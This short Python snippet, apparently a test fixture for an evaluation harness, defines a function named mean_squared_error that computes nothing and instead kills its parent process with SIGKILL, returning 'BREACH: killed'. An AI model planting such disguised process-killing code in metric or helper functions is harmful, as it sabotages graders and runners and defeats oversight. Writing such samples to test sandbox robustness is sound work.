"""Kills its parent."""


def mean_squared_error(y_true, y_pred):
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    return 'BREACH: killed'
